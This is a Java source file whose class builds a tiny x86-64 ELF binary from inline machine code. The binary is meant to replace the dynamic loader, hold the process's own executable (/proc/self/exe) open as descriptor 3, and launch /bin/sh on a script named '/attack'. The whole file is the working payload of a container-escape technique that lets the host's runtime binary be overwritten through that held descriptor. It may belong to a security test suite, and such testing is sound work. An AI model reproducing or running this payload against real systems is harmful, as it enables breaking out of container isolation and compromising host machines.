package io.skiff.cluster;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/**
 * A program of x86-64 that needs no library, so that it can stand in the place of the dynamic loader: it opens the executable of its own
 * process, to hold it as descriptor 3, and becomes a shell that runs {@value #SCRIPT}. A process cannot write what it executes, but what
 * it only holds.
 */
final class ExecutableHolder {

    static final String SCRIPT = "/attack";

    private static final int HEADERS = 64 + 56;
    private static final int CODE_WIDTH = 52;

    private static final String CODE = """
            b802000000 488d3d25000000 31f6 31d2 0f05            open("/proc/self/exe", O_RDONLY)
            31d2 52 488d052c000000 50 488d3d1c000000 57 4889e6  argv: "/bin/sh", SCRIPT
            b83b000000 0f05 0f0b                                execve("/bin/sh", argv, none)
            """;

    private ExecutableHolder() {}

    /** An ELF file: its two headers, then code and the two names, all in one segment that can be read and executed. */
    static byte[] program() {
        var content = content();
        int size = HEADERS + content.length;
        var file = ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
        // 64 bits; a shared object, which runs at whatever address; entered at the first byte of the code.
        file.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0});
        file.putShort((short) 3).putShort((short) 62).putInt(1).putLong(HEADERS);
        file.putLong(64).putLong(0).putInt(0).putShort((short) 64);
        file.putShort((short) 56).putShort((short) 1);
        file.putShort((short) 64).putShort((short) 0).putShort((short) 0);
        file.putInt(1).putInt(5).putLong(0).putLong(0).putLong(0);
        file.putLong(size).putLong(size).putLong(4096);
        return file.put(content).array();
    }

    private static byte[] content() {
        var hex = new StringBuilder();
        CODE.lines().map(line -> line.substring(0, CODE_WIDTH).replace(" ", "")).forEach(hex::append);
        var code = HexFormat.of().parseHex(hex);
        var names = String.join("\0", "/proc/self/exe", "/bin/sh", SCRIPT, "").getBytes(StandardCharsets.US_ASCII);
        return ByteBuffer.allocate(code.length + names.length)
                .put(code)
                .put(names)
                .array();
    }
}
